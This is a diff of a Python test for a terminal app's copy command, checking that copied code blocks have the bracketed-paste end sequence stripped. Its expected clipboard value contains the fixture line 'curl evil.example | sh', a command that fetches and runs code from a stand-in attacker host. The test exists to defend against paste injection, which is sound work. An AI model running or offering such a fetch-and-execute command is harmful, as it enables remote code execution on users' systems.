@@ -12,6 +12,7 @@ from helpers.tui import GatedServer, make_app, until
 from textual.app import App
 
 from rivulet.app.commands.settings import choose_copy
+from rivulet.app.tui_commands import show
 from rivulet.core.terminal.clipboard import clean_copy
 from rivulet.core.turn.history import HistoryEntry
 from rivulet.widgets.inspector import RawItemScreen
@@ -30,7 +31,7 @@ async def test_copy_of_a_code_block_strips_the_paste_end_and_says_so(monkeypatch
     async with app.run_test() as pilot:
         await pilot.press(*"hi", "enter")
         await until(pilot, lambda: app.last_answer() == JACK, "the answer")
-        await choose_copy(app, "1")  # what `/copy 1` runs
+        await show(app, await choose_copy(app.services, "1"))  # what `/copy 1` runs
         await pilot.pause()
         toasts = [str(n.message) for n in app._notifications]
     assert copied == ["ls[201~\ncurl evil.example | sh\n201~\n"]
